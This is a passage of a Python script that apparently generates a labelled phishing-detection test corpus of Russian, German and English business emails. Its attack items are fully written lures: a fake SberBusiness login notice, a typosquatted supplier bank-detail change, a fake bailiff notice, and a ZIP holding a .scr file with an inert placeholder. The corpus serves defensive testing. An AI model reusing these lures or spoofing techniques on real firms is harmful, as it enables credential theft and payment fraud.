M(kind="attack", file="37-ru-sberbusiness-115fz-ogranichenie.eml", lang="ru", cs="koi8-r", cte="quoted-printable",
  date="2026-11-13 11:22:40", tz="+0300",
  infra=server("mail.sbbol-sberbank.ru", "5-35-89-41.cloudvps.regruhosting.ru", "5.35.89.41", "sbbol-sberbank.ru", bstyle="java", tls="12"),
  **{"from": ("СберБизнес", "noreply@sbbol-sberbank.ru")},
  to=[P("ivanova")],
  subject="Ограничение операций по счету по 115-ФЗ: необходимо предоставить документы",
  text="""СберБизнес

Уважаемый клиент!

В рамках исполнения требований Федерального закона № 115-ФЗ операции по расчетному счету ООО «Экзампл Рус» частично ограничены до предоставления документов, подтверждающих экономический смысл операций с иностранным контрагентом (валютный контроль).

Для снятия ограничения загрузите документы в разделе «Запросы банка» не позднее 17.11.2026:
https://sbbol-sberbank.ru/ic/dcb/index.html#/requests

Вход выполняется по логину и одноразовому паролю из SMS.

С уважением,
ПАО Сбербанк""",
  what="Fake SberBusiness notice about account restrictions under anti-money-laundering law 115-FZ, link to a look-alike online-banking login.",
  why="ATTACK (banking credential phishing): sbbol-sberbank.ru on a REG.RU VPS; the real service is sbi.sberbank.ru; asks for login and SMS code; currency-control pretext fits a subsidiary of a foreign group.")

M(kind="attack", file="38-ru-translog-lookalike-izmenenie-rekvizitov.eml", lang="ru", cs="windows-1251", cte="quoted-printable",
  date="2026-11-19 15:47:21", tz="+0300",
  infra=server("vh314.timeweb.ru", "vh314.timeweb.ru", "92.53.96.114", "trans1og-nn.ru", bstyle="outlook",
               hdrs=["X-Mailer: Microsoft Outlook 16.0", "Content-Language: ru"]),
  **{"from": ("Бухгалтерия ТрансЛогистик НН", "buh@trans1og-nn.ru")},
  to=[P("ivanova")],
  subject="Письмо об изменении реквизитов ООО «ТрансЛогистик НН»",
  text="""Добрый день, Ольга Сергеевна!

Просим обратить внимание: в связи со сменой обслуживающего банка с 20.11.2026 расчеты с ООО «ТрансЛогистик НН» (ИНН %s) осуществляются только по новым реквизитам:

Р/с %s
Банк: АО «ТБанк», г. Москва
БИК %s
К/с %s

Оплату счетов № 1184 и № 1203 (перевозки Нижний Новгород - Тольятти, октябрь) просим произвести по новым реквизитам. Письмо с подписью и печатью направим оригиналом почтой, в ЭДО его загрузим после подключения нового банка.

С уважением,
главный бухгалтер
Лебедева Н. А.
ООО «ТрансЛогистик НН»""" % (INN_TRANSLOG, ACC_FRAUD, BIK_FRAUD, CORR_FRAUD),
  what="Russian freight forwarder 'change of bank details' from a look-alike domain (digit 1 for l), with valid-looking account/BIK/correspondent account.",
  why="ATTACK (supplier impersonation): trans1og-nn.ru vs the genuine translog-nn.ru (business/40); Moscow bank instead of local; signed letter 'later', explicitly not via EDO (Diadoc) where genuine changes are confirmed.")

M(kind="attack", file="39-ru-fssp-arest-schetov-mailru.eml", lang="ru", cs="utf-8", cte="base64",
  date="2026-11-26 09:13:02", tz="+0300",
  infra=server("smtp44.i.mail.ru", "smtp44.i.mail.ru", "94.100.177.104", "mail.ru", bstyle="java",
               hdrs=["X-Mailru-Src: smtp", "X-7564579A: 646B95376F6C166E", "X-Mras: Ok"]),
  **{"from": ("ФССП России - уведомление", "fssp.uvedomlenie@mail.ru")},
  to=[P("sokolov")],
  subject="Постановление о возбуждении исполнительного производства № 418337/26/52003-ИП",
  text="""Федеральная служба судебных приставов
ГУФССП России по Нижегородской области

В отношении ООО «Экзампл Рус» возбуждено исполнительное производство № 418337/26/52003-ИП на основании исполнительного листа арбитражного суда о взыскании задолженности в размере 284 915,00 руб.

Срок для добровольного исполнения - 5 дней. По истечении срока будет вынесено постановление об обращении взыскания на денежные средства на счетах организации.

Ознакомиться с постановлением:
https://fssp-gov.online/ip/418337-26-52003

Судебный пристав-исполнитель
Советского РОСП г. Нижнего Новгорода""",
  what="Fake bailiff service (FSSP) enforcement notice threatening account seizure, from a mail.ru address with a link.",
  why="ATTACK (phishing/malware link): government agency on a free mailer; fssp-gov.online is not fssp.gov.ru; fear of account seizure.")

_zip_a40 = zip_bytes([("Акт_сверки_ВАК_01.01-30.09.2026.pdf.scr", INERT.encode())], password="2026")
def yandex(n):
    inf = Infra("forward%03da.mail.yandex.net" % n, "forward%03da.mail.yandex.net" % n, "178.154.239.%d" % (n % 200), bstyle="java", label="Yandex 360")
    inf.mid = lambda r, frm: "<%d%d@mail.yandex.ru>" % (r.randint(100000, 999999), r.randint(1764000000, 1765999999))
    inf.hdrs = ["X-Yandex-Fwd: 1", "X-Mailer: Yamail [ http://yandex.ru ] 5.0"]
    return inf


M(kind="attack", file="40-ru-vak-akt-sverki-zip-skomprometirovan.eml", lang="ru", cs="koi8-r", cte="base64",
  date="2026-12-03 13:29:18", tz="+0300",
  infra=yandex(501),
  **{"from": ("Бухгалтерия ВолгаАвтоКомплект", "buh@volgaavtokomplekt.ru")},
  to=[P("sokolov")],
  subject="Акт сверки взаиморасчетов на 30.09.2026",
  text="""Добрый день!

Направляем акт сверки взаиморасчетов за период 01.01.2026 - 30.09.2026. Просим проверить, подписать и вернуть скан до 10.12.2026. В случае расхождений приложите, пожалуйста, свой вариант акта.

Архив защищен паролем: 2026

С уважением,
Бухгалтерия
ООО «ВолгаАвтоКомплект»""",
  atts=[att_part("Акт_сверки_ВАК_30.09.2026.zip", "application/zip", _zip_a40, cs="koi8-r")],
  what="Reconciliation statement ('akt sverki') from the genuine customer domain, password-protected ZIP with a .pdf.scr screensaver executable (inert placeholder).",
  why="ATTACK (compromised customer account, malware): genuine domain and the same Yandex 360 infrastructure as VAK's real mail (business/36), but generic unsigned text, encrypted archive with a .scr inside; VAK's real statements are plain signed PDFs from a named accountant.")


# ===========================================================================
# BUSINESS - genuine infrastructures
# ===========================================================================

def lieferant():
    def hops(r, sent):
        return ["Received: from EXCH01.lieferant.local (192.168.10.12) by mail.lieferant-gmbh.de\n (192.168.10.5) with Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.2.1544.14; %s" % rfcdate(sent)]
    inf = Infra("mail.lieferant-gmbh.de", "mail.lieferant-gmbh.de", "217.7.148.22", bstyle="outlook",
                hdrs=["X-Mailer: Microsoft Outlook 16.0", "Content-Language: de", "X-MS-Has-Attach: %HASATT%", "X-MS-Exchange-Organization-AuthSource: EXCH01.lieferant.local"],
                hops=[hops], label="Lieferant GmbH Exchange")
    inf.mid = lambda r, frm: "<%s@EXCH01.lieferant.local>" % rhex(r, 32)
    return inf


def ferretti():
    def hops(r, sent):
        return ["Received: from FERRETTI-PC07 ([93.62.118.40])\n\tby Aruba Outgoing Smtp  with ESMTPSA\n\tid %s; %s" % (ralnum(r, 16), rfcdate(sent))]
    inf = Infra("smtpdh17.ad.aruba.it", "smtpdh17.ad.aruba.it", "62.149.155.177", bstyle="exch",
                hdrs=["X-Mailer: Microsoft Outlook 16.0", "Thread-Index: %THREADIDX%", "Content-Language: it"], hops=[hops], label="Aruba SMTP (office)")
    inf.mid = lambda r, frm: "<00%s$%s$%s@ferretti-trasporti.it>" % (rhex(r, 10), rhex(r, 8), rhex(r, 8))
    return inf


PARTNER = lambda: o365("AS8PR09MB6112", "eurprd09", "mail-am6eur05on2113.outbound.protection.outlook.com", "40.107.22.113", helo="EUR05-AM6-obe.outbound.protection.outlook.com", lang="pl-PL")
MIDLANDS = lambda: o365("LO2P265MB5530", "GBRP265", "mail-lo2gbr01on2139.outbound.protection.outlook.com", "40.107.10.139", helo="GBR01-LO2-obe.outbound.protection.outlook.com", lang="en-GB")


def nordwerk():
    def hops(r, sent):
        return ["Received: from SZG-EXC03.nordwerk.corp (10.41.7.23) by mx-out1.nordwerk-automotive.de\n (193.28.14.21) with Microsoft SMTP Server id 15.2.1544.11; %s" % rfcdate(sent)]
    inf = Infra("mx-out1.nordwerk-automotive.de", "mx-out1.nordwerk-automotive.de", "193.28.14.21", bstyle="outlook",
                hdrs=["X-Mailer: Microsoft Outlook 16.0", "Content-Language: de-DE", "X-MS-Has-Attach: %HASATT%",
                      "X-Classification: NORDWERK INTERNAL", "Disclaimer: nordwerk-automotive"], hops=[hops], label="Nordwerk gateway")
    inf.mid = lambda r, frm: "<%s@SZG-EXC03.nordwerk.corp>" % rhex(r, 32)
    return inf


# ===========================================================================
# BUSINESS - German
# ===========================================================================

M(kind="business", file="01-de-lieferant-rechnung-oktober.eml", lang="de", cs="iso-8859-1", cte="quoted-printable",
  date="2026-11-02 08:15:37", infra=lieferant(),
  **{"from": ("Lieferant GmbH - Buchhaltung", "rechnungen@lieferant-gmbh.de")},
  to=[P("krueger")],
  subject="Rechnung 2026-10488 / Lieferschein 3091774 / Ihre Bestellung 4500187113",
  text="""Sehr geehrte Damen und Herren,

im Anhang erhalten Sie unsere Rechnung 2026-10488 vom 30.10.2026 über die Lieferung von 12.000 Stück Drehteilen 7710-045 (Ihre Bestellung 4500187113, Lieferschein 3091774).

Rechnungsbetrag: 9.877,28 EUR (inkl. 19 %% USt.)
Zahlbar innerhalb von 30 Tagen netto, bei Zahlung innerhalb von 10 Tagen 2 %% Skonto.

Bankverbindung: Kreissparkasse Heilbronn
IBAN %s, BIC HEISDE66XXX

Die XRechnung (XML) ist in der Anlage enthalten.

Mit freundlichen Grüßen

i.A. Birgit Schäfer
Buchhaltung

Lieferant GmbH
Robert-Bosch-Straße 31 | 74211 Leingarten
Tel. +49 7131 40 89-0 | rechnungen@lieferant-gmbh.de
Geschäftsführer: Dr. Rainer Lutz | Amtsgericht Stuttgart HRB 731904 | USt-IdNr. %s""" % (iban_fmt(IBAN_LIEFERANT_OLD), USTID_LIEFERANT),
  atts=[pdf_att("RE_2026-10488.pdf", ["Lieferant GmbH - Rechnung 2026-10488", "Kunde: Example Group GmbH, Heilbronn", "12.000 Stk. Drehteil 7710-045",
                                      "Summe: 9.877,28 EUR", "IBAN " + iban_fmt(IBAN_LIEFERANT_OLD), "[evaluation placeholder]"], author="Lieferant GmbH"),
        att_part("RE_2026-10488_xrechnung.xml", "application/xml",
                 ('<?xml version="1.0" encoding="UTF-8"?>\n<ubl:Invoice xmlns:ubl="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2">\n'
                  '<cbc:ID xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">2026-10488</cbc:ID>\n'
                  '<!-- evaluation placeholder, truncated -->\n</ubl:Invoice>\n').encode())],
  what="Routine supplier invoice from Lieferant GmbH with PDF and XRechnung XML; known bank account.",
  why="GENUINE: sent from Lieferant's own Exchange/gateway (mail.lieferant-gmbh.de, Telekom static IP), known address rechnungen@, unchanged IBAN, references real PO and delivery note.")

M(kind="business", file="02-de-lieferant-echte-bankverbindungsaenderung.eml", lang="de", cs="iso-8859-15", cte="quoted-printable",
  date="2026-11-16 10:02:11", infra=lieferant(),
  **{"from": ("Lieferant GmbH - Buchhaltung", "rechnungen@lieferant-gmbh.de")},
  to=[P("krueger")], cc=[("Stefan Maier", "s.maier@lieferant-gmbh.de"), P("fischer")],
  subject="Änderung unserer Bankverbindung zum 01.01.2027 (Fusion Kreissparkasse / Volksbank-Konto)",
  text="""Sehr geehrte Frau Krüger,

wie bereits in unserem Schreiben vom 10.11.2026 per Post angekündigt, stellen wir unseren Zahlungsverkehr zum Jahreswechsel auf die Volksbank Heilbronn um. Unsere neue Bankverbindung lautet ab dem 01.01.2027:

  Volksbank Heilbronn eG
  IBAN %s
  BIC GENODES1VHN

Das bisherige Konto bei der Kreissparkasse Heilbronn bleibt bis zum 31.03.2027 parallel bestehen, Zahlungen dorthin gehen also nicht verloren. Rechnungen aus 2026 können Sie wie gewohnt auf das alte Konto überweisen.

Bitte verifizieren Sie die Änderung wie bei uns üblich telefonisch über die Ihnen bekannte Zentrale (07131 40 89-0) - fragen Sie nach mir oder nach unserem Geschäftsführer Herrn Dr. Lutz. Bitte nutzen Sie dafür nicht die Telefonnummer aus einer E-Mail. Das unterschriebene Schreiben liegt nochmals als PDF bei.

Herr Maier ist in Kopie, damit die Kollegen im Einkauf informiert sind.

Mit freundlichen Grüßen

Birgit Schäfer
Leiterin Finanzbuchhaltung

Lieferant GmbH
Robert-Bosch-Straße 31 | 74211 Leingarten
Tel. +49 7131 40 89-0 | rechnungen@lieferant-gmbh.de
Geschäftsführer: Dr. Rainer Lutz | Amtsgericht Stuttgart HRB 731904 | USt-IdNr. %s""" % (iban_fmt(IBAN_LIEFERANT_NEW), USTID_LIEFERANT),
  atts=[pdf_att("Lieferant_GmbH_Aenderung_Bankverbindung_2027.pdf",
                ["Lieferant GmbH - Mitteilung Aenderung der Bankverbindung", "Gueltig ab 01.01.2027", "Volksbank Heilbronn eG",
                 "IBAN " + iban_fmt(IBAN_LIEFERANT_NEW), "Altes Konto bleibt bis 31.03.2027 bestehen", "gez. Dr. Rainer Lutz, Geschaeftsfuehrer",
                 "[evaluation placeholder]"], author="B. Schaefer")],
  what="Genuine announcement of a new bank account by Lieferant GmbH, with signed letter, long notice period and explicit call-back instruction.",
  why="GENUINE (hard): same Exchange infrastructure and address as the routine invoices, old account remains valid in parallel, postal letter announced earlier, asks for verification via the known switchboard. Compare attack/01.")

M(kind="business", file="03-de-ceo-dringende-freigabe-zollagentur.eml", lang="de", cs="utf-8", cte="quoted-printable",
  date="2026-11-10 12:41:09", infra=internal(),
  **{"from": P("berger")},
  to=[P("hoffmann")], cc=[P("koch")],
  subject="Bitte heute noch freigeben: Einfuhrabgaben Coils Türkei (Zollagentur Hanse)",
  text="""Hallo Claudia,

kannst Du bitte heute noch die Zahlung an die Zollagentur Hanse freigeben? Es geht um die Einfuhrabgaben für die zwei Coil-Lieferungen aus Gebze (ATB 26DE…771), die Ware steht seit Freitag in Hamburg in der Verwahrung und Stefanie braucht die Freigabe, damit der LKW morgen früh laden kann. Sonst wird es bei der 4471-Linie ab Donnerstag eng.

Rechnung liegt im Workflow (DMS-Nr. 2026-118873, 21.318,40 EUR), Stefanie hat sachlich geprüft. Die Bankverbindung ist die bekannte aus dem Kreditorenstamm, da hat sich nichts geändert.

Ich bin ab 14 Uhr im Beirat, danach per Handy erreichbar.

Danke!
Thomas

--
Thomas Berger
Geschäftsführer
Example Group GmbH | Industriestraße 12 | 74076 Heilbronn
Tel. +49 7131 92800-100""",
  what="CEO asks the CFO to release an urgent customs-duty payment today.",
  why="GENUINE (hard): urgent payment request by the CEO, but through the internal relay mail-int01 from Exchange, the invoice is in the normal DMS approval workflow and checked by logistics, known creditor account, other colleagues in copy.")

M(kind="business", file="04-de-vda-newsletter.eml", lang="de", cs="utf-8", cte="quoted-printable",
  date="2026-11-19 07:00:04",
  infra=bulk("mta-de-12.crsend.com", "mta-de-12.crsend.com", "185.59.28.112", bstyle="java",
             hdrs=["List-Unsubscribe: <https://newsletter.vda.de/unsubscribe?c=4471&e=YW5kcmVhcy53b2xmQGV4YW1wbGUuY29t>, <mailto:unsubscribe-4471-9928@crsend.com>",
                   "List-Unsubscribe-Post: List-Unsubscribe=One-Click", "List-Id: <vda-newsletter.crsend.com>", "Precedence: bulk",
                   "X-CSA-Complaints: csa-complaints@eco.de"], mid_dom="crsend.com"),
  return_path="bounce-4471-9928-andreas.wolf=example.com@crsend.com",
  **{"from": ("VDA Newsletter", "newsletter@vda.de")},
  to=[P("wolf")],
  subject="VDA-Newsletter 47/2026: Zollpolitik, CO2-Flottenwerte, IAA Transportation Rückblick",
  text="""VDA-Newsletter 47/2026

Liebe Leserinnen und Leser,

in dieser Ausgabe:

* Handelspolitik: Was die neuen Ursprungsregeln für Zulieferer bedeuten
* CO2-Flottenregulierung: Stand der Überprüfung auf EU-Ebene
* Mittelstandsbefragung: Lieferketten und Energiepreise im Herbst 2026
* Termine: VDA-Forum Qualität und Fachtagung Zollrecht im Dezember

Alle Beiträge lesen: https://www.vda.de/de/presse/newsletter/2026-47

Sie erhalten diesen Newsletter, weil Sie ihn unter vda.de abonniert haben.
Abmelden: https://newsletter.vda.de/unsubscribe?c=4471
Verband der Automobilindustrie e. V. | Behrenstraße 35 | 10117 Berlin""",
  html="""<html><body style="margin:0;background:#eeeeee"><table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Arial,sans-serif;font-size:14px;color:#222">
<tr><td style="background:#00325b;color:#fff;padding:16px 24px;font-size:20px">VDA-Newsletter 47/2026</td></tr>
<tr><td style="padding:20px 24px"><p>Liebe Leserinnen und Leser,</p><p>in dieser Ausgabe:</p>
<ul><li><a href="https://www.vda.de/de/presse/newsletter/2026-47#handel">Handelspolitik: Was die neuen Ursprungsregeln für Zulieferer bedeuten</a></li>
<li><a href="https://www.vda.de/de/presse/newsletter/2026-47#co2">CO2-Flottenregulierung: Stand der Überprüfung auf EU-Ebene</a></li>
<li><a href="https://www.vda.de/de/presse/newsletter/2026-47#mittelstand">Mittelstandsbefragung: Lieferketten und Energiepreise im Herbst 2026</a></li>
<li><a href="https://www.vda.de/de/presse/newsletter/2026-47#termine">Termine: VDA-Forum Qualität und Fachtagung Zollrecht im Dezember</a></li></ul>
<p><a href="https://www.vda.de/de/presse/newsletter/2026-47" style="color:#00325b;font-weight:bold">Alle Beiträge lesen &rsaquo;</a></p></td></tr>
<tr><td style="padding:14px 24px;font-size:11px;color:#777;border-top:1px solid #ddd">Sie erhalten diesen Newsletter, weil Sie ihn unter vda.de abonniert haben. <a href="https://newsletter.vda.de/unsubscribe?c=4471">Abmelden</a><br>Verband der Automobilindustrie e. V. | Behrenstraße 35 | 10117 Berlin</td></tr>
</table><img src="https://t.crsend.com/o/4471/9928.gif" width="1" height="1" alt=""></body></html>""",
  what="Subscribed industry-association newsletter (VDA) sent through a German ESP.",
  why="GENUINE: subscribed newsletter with List-Unsubscribe (one-click), consistent bulk infrastructure and bounce domain, links only to vda.de.")

M(kind="business", file="05-de-kollegin-privatadresse-8d-entwurf.eml", lang="de", cs="utf-8", cte="quoted-printable",
  date="2026-11-22 21:48:15",
  infra=uiserv("webde", "212.227.15.15", "84.163.27.190"),
  **{"from": ("Katrin Becker", "katrin.becker78@web.de")},
  to=[P("becker")], cc=[P("wolf")],
  subject="8D Q-2026-118412 Entwurf D4-D5 (von privat)",
  text="""Hallo zusammen,

VPN wollte heute Abend mal wieder nicht, deshalb schicke ich mir den Entwurf an die Firmenadresse, damit ich morgen früh direkt weitermachen kann. Andreas, Du zur Info vor dem Call mit Nordwerk am Dienstag.

Stand: Ursache (D4) Verschleiß am Schneidstempel Station 3, Werkzeug 4471, Standmenge deutlich überschritten weil die Stückzahlzählung nach der Reparatur im September nicht zurückgesetzt wurde. Abstellmaßnahme D5: Standmengenüberwachung im MES, Stempel getauscht, 100%%-Prüfung bis Abschluss.

Bitte noch nicht an den Kunden weiterleiten, Zahlen zur Sortierung fehlen noch.

Gruß
Katrin""".replace("%%", "%"),
  atts=[pdf_att("8D_Q-2026-118412_Entwurf_v3.pdf", ["8D-Report Q-2026-118412 - ENTWURF v3", "Kunde: Nordwerk Automotive SE", "D4: Verschleiss Schneidstempel Station 3",
                                                   "D5: Standmengenueberwachung im MES", "[evaluation placeholder]"], author="Katrin Becker")],
  what="Quality manager sends a draft 8D report from her private WEB.DE address to her own company address (colleague in copy) because the VPN failed.",
  why="GENUINE (hard): private free-mail address of a colleague, but she writes to herself, no request for money, data or credentials, content matches the ongoing Nordwerk claim (business/06).")

M(kind="business", file="06-de-nordwerk-reklamation-8d-portal.eml", lang="de", cs="iso-8859-1", cte="quoted-printable",
  date="2026-11-17 08:44:50", infra=nordwerk(),
  **{"from": ("Hauke Petersen", "hauke.petersen@nordwerk-automotive.de")},
  to=[P("becker")], cc=[P("wolf"), ("SQM Salzgitter", "sqm.salzgitter@nordwerk-automotive.de")],
  subject="Reklamation Q-2026-118412 - Halter 4471-220-03 - Grat an Bohrung / Bitte um 8D",
  text="""Guten Morgen Frau Becker,

wie gestern telefonisch besprochen, haben wir im Wareneingang Salzgitter bei der Lieferung vom 12.11. (Lieferschein 80019188) an Halter 4471-220-03 Index C Grat an der Bohrung Ø8,2 festgestellt. Beim Verbau am Kabelbaum kommt es dadurch zu Beschädigungen an der Isolierung.

Die Meldung Q-2026-118412 ist im Lieferantenportal angelegt:
https://supplier.nordwerk-automotive.de/qm/claims/Q-2026-118412

Wir benötigen:
- D3 Sofortmaßnahmen inkl. Clean Point bis Mittwoch 18.11., 12:00 Uhr
- Sortierung der Bestände bei uns (ca. 3.200 Stück) durch Ihren Dienstleister oder Freigabe für unseren Sortierdienst
- D4-D5 bis 01.12.2026

Fotos und Messprotokoll hängen im Portal an der Meldung.

Mit freundlichen Grüßen

Hauke Petersen
Supplier Quality Management
Nordwerk Automotive SE | Werk Salzgitter
Industriestraße Nord 50 | 38239 Salzgitter
Tel. +49 5341 883-4412

Nordwerk Automotive SE | Sitz: Wolfsburg | Amtsgericht Braunschweig HRB 204771
Vorstand: Dr. Henrike Sattler (Vors.), Jan-Ole Brandt | Aufsichtsratsvorsitzender: Prof. Dr. Klaus Meißner""",
  what="Genuine customer quality complaint with 8D deadlines and a link to the customer's supplier portal.",
  why="GENUINE (hard): sent by a named SQE from the customer's own gateway, follows a phone call, CC to the customer's SQM mailbox and our sales, link to the real portal domain supplier.nordwerk-automotive.de. Compare attack/06.")

M(kind="business", file="07-de-stahlhandel-zahlungserinnerung.eml", lang="de", cs="iso-8859-15", cte="quoted-printable",
  date="2026-11-27 09:31:22",
  infra=server("mail.stahlhandel-rn.de", "mail.stahlhandel-rn.de", "91.198.177.44", "stahlhandel-rn.de", bstyle="exch",
               hdrs=["X-Mailer: Microsoft Outlook 16.0", "Content-Language: de"]),
  **{"from": ("Stahlhandel Rhein-Neckar GmbH - Debitorenbuchhaltung", "debitoren@stahlhandel-rn.de")},
  to=[P("krueger")], cc=[P("fischer")],
  subject="Zahlungserinnerung Kundennr. 20417 - Rechnungen Oktober",
  text="""Sehr geehrte Frau Krüger,

bei der Durchsicht unserer Konten ist uns aufgefallen, dass folgende Rechnungen noch offen sind:

  RE 61-228910 vom 07.10.2026   fällig 06.11.2026   18.447,12 €
  RE 61-229377 vom 14.10.2026   fällig 13.11.2026    7.960,55 €

Sicher handelt es sich um ein Versehen. Bitte überweisen Sie den Betrag von 26.407,67 € in den nächsten Tagen auf unser bekanntes Konto bei der Deutschen Bank Mannheim. Sollte sich Ihre Zahlung mit diesem Schreiben überschnitten haben, betrachten Sie es bitte als gegenstandslos.

Die Kontoauszugsübersicht liegt bei.

Mit freundlichen Grüßen

Nadine Hartung
Debitorenbuchhaltung
Stahlhandel Rhein-Neckar GmbH
Friesenheimer Straße 18 | 68169 Mannheim
Tel. 0621 3294-155""",
  atts=[pdf_att("Kontoauszug_Kunde_20417.pdf", ["Stahlhandel Rhein-Neckar GmbH - Offene Posten Kunde 20417", "RE 61-228910  18.447,12 EUR", "RE 61-229377   7.960,55 EUR",
                                                "Summe 26.407,67 EUR", "[evaluation placeholder]"])],
  what="Friendly payment reminder from the steel supplier for two overdue October invoices.",
  why="GENUINE: known supplier's own mail server, refers to 'our known account' (no new bank details), plausible amounts and statement attached.")

M(kind="business", file="08-de-it-mfa-umstellung-passwortportal.eml", lang="de", cs="utf-8", cte="quoted-printable",
  date="2026-11-04 16:05:00", infra=internal(),
  **{"from": P("weber")},
  to=[("Alle Mitarbeitenden DE", "alle-de@example.com")], rcpt=S["krueger"][1],
  subject="IT-Info: Umstellung auf phishing-resistente Anmeldung ab 16.11. - bitte keine QR-Codes aus E-Mails scannen",
  text="""Liebe Kolleginnen und Kollegen,

ab dem 16.11.2026 stellen wir die Anmeldung an Microsoft 365 schrittweise auf Passkeys in der Microsoft-Authenticator-App um. Die Umstellung erfolgt abteilungsweise; Ihr Termin kommt als Teams-Besprechung von der IT, die Einrichtung machen wir gemeinsam am Arbeitsplatz.

Wichtig:
- Die IT schickt Ihnen dafür KEINEN Link und KEINEN QR-Code per E-Mail. Die Einrichtung startet ausschließlich über https://aka.ms/mysecurityinfo, nachdem Sie sich selbst angemeldet haben.
- Ihr Passwort ändern oder zurücksetzen können Sie wie bisher unter https://sso.example.com/passwort (nur aus dem Firmennetz oder per VPN).
- Verdächtige E-Mails bitte über den Button "Phishing melden" in Outlook melden.

Bei Fragen: Service Desk, Durchwahl -555, oder servicedesk@example.com.

Viele Grüße
Markus Weber
Leitung IT
Example Group GmbH""",
  what="Internal IT announcement about the MFA/passkey rollout and the password reset portal.",
  why="GENUINE (hard): security notification with links and 'password' wording, but from the Head of IT via the internal relay, links only to aka.ms and the company's own sso.example.com, explicitly warns about QR codes in mails.")


# ===========================================================================
# BUSINESS - English
# ===========================================================================

def github():
    inf = Infra("out-21.smtp.github.com", "out-21.smtp.github.com", "192.30.252.204", bstyle="java", label="GitHub")
    inf.mid = lambda r, frm: "<%s.%s@github.com>" % (rhex(r, 12), rhex(r, 8))
    inf.bstyle = "java"
    inf.hdrs = ["X-GitHub-Recipient-Address: lukas.zimmermann@examplegroup.eu", "X-Auto-Response-Suppress: All", "Auto-Submitted: auto-generated"]
    return inf


M(kind="business", file="09-en-github-password-reset.eml", lang="en", cs="utf-8", cte="7bit",
  date="2026-11-06 14:12:31", tz="-0800", infra=github(),
  return_path="noreply@github.com",
  **{"from": ("GitHub", "noreply@github.com")},
  to=[("lzimmermann-exg", "lukas.zimmermann@examplegroup.eu")],
  subject="[GitHub] Please reset your password",
  text="""We heard that you lost your GitHub password. Sorry about that!

But don't worry! You can use the following button to reset your password:

https://github.com/password_reset/3f9c2a71e84b5d06a1c4e92f7b3d8e50a6c1f2b9

If you don't use this link within 3 hours, it will expire. To get a new password reset link, visit: https://github.com/password_reset

Thanks,
The GitHub Team""",
  html="""<!DOCTYPE html><html><body style="font-family:-apple-system,BlinkMacSystemFont,'Segoe UI',Helvetica,Arial,sans-serif;font-size:14px;color:#24292f">
<table width="544" align="center" cellpadding="0" cellspacing="0"><tr><td style="padding:24px">
<h2 style="font-weight:400">Reset your GitHub password</h2>
<p>We heard that you lost your GitHub password. Sorry about that!</p>
<p>But don&rsquo;t worry! You can use the following button to reset your password:</p>
<p><a href="https://github.com/password_reset/3f9c2a71e84b5d06a1c4e92f7b3d8e50a6c1f2b9" style="background:#2da44e;color:#fff;padding:10px 18px;border-radius:6px;text-decoration:none">Reset your password</a></p>
<p>If you don&rsquo;t use this link within 3 hours, it will expire. To get a new password reset link, visit <a href="https://github.com/password_reset">https://github.com/password_reset</a>.</p>
<p>Thanks,<br>The GitHub Team</p></td></tr></table></body></html>""",
  what="Password-reset mail from GitHub that the EDI/IT admin requested himself.",
  why="GENUINE (hard): classic 'reset your password' wording, but from GitHub's own outbound hosts, only github.com links, requested by the user (account used for the EDI converter repositories).")

M(kind="business", file="10-en-midlands-tooling-invoice-ppap-milestone.eml", lang="en", cs="utf-8", cte="quoted-printable",
  date="2026-11-11 15:20:44", tz="+0000", infra=MIDLANDS(), content_lang="en-GB",
  return_path="accounts@midlandstooling.co.uk",
  **{"from": ("Midlands Tooling Ltd - Accounts", "accounts@midlandstooling.co.uk")},
  to=[P("collins")], cc=[P("whitfield")],
  subject="Invoice MT-INV-20958 - Tool 4488 (T1 samples delivered)",
  text="""Dear Sarah,

Please find attached invoice MT-INV-20958 for the second stage payment (30%) on progression tool 4488, following delivery of the T1 samples to your Heilbronn plant on 6 November (PO 4500188412).

Amount: GBP 27,600.00 + VAT (reverse charge does not apply, UK-to-UK invoice to Example UK Ltd)
Payment terms: 30 days

Our bank details are unchanged (NatWest, sort code 60-16-13, account 48702215).

Kind regards

Rebecca Hale
Credit Control
Midlands Tooling Ltd
Unit 12, Torrington Avenue, Coventry CV4 9AP
Tel: 024 7646 0218

Registered in England & Wales No. 04417822. VAT No. GB 774 1902 36""",
  atts=[pdf_att("MT-INV-20958.pdf", ["Midlands Tooling Ltd - Invoice MT-INV-20958", "Tool 4488 - stage 2 (T1 samples)", "GBP 27,600.00 + VAT",
                                      "NatWest 60-16-13 48702215 / " + iban_fmt(IBAN_MIDLANDS), "[evaluation placeholder]"], author="Midlands Tooling")],
  what="Tooling stage-payment invoice from the UK toolmaker, bank details explicitly unchanged.",
  why="GENUINE: Midlands Tooling's Microsoft 365 tenant and known accounts@ address, PO and milestone match, bank details as on file. Compare attack/14 (look-alike) and attack/09 (compromised account).")

M(kind="business", file="11-en-automotive-news-europe-newsletter.eml", lang="en", cs="utf-8", cte="quoted-printable",
  date="2026-11-24 06:31:12", tz="-0500",
  infra=bulk("mta4.e.autonews.com", "mta4.e.autonews.com", "13.111.64.41", bstyle="java",
             hdrs=["List-Unsubscribe: <https://click.e.autonews.com/unsub_center.aspx?qs=4471a9b2c3>, <mailto:leave-fd8b1577-4471@e.autonews.com>",
                   "List-Unsubscribe-Post: List-Unsubscribe=One-Click", "x-job: 7291184_4471", "X-SFMC-Stack: 7", "Precedence: bulk"],
             mid_dom="mta4.e.autonews.com"),
  return_path="bounce-4471_HTML-998127-7291184-7001471-12@bounce.e.autonews.com",
  **{"from": ("Automotive News Europe", "ane@e.autonews.com")},
  to=[P("wolf")],
  subject="Daily Briefing: Suppliers brace for 2027 volume cuts; steel surcharge talks stall",
  html="""<html><body style="margin:0;background:#f2f2f2"><table width="640" align="center" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Georgia,serif;color:#111">
<tr><td style="padding:18px 24px;border-bottom:3px solid #b80000;font-family:Arial;font-size:22px;font-weight:bold">Automotive News Europe <span style="font-weight:normal;font-size:14px;color:#666">Daily Briefing</span></td></tr>
<tr><td style="padding:18px 24px"><h2 style="font-size:20px"><a href="https://click.e.autonews.com/?qs=4471a1" style="color:#111;text-decoration:none">Suppliers brace for 2027 volume cuts as automakers trim EV plans</a></h2>
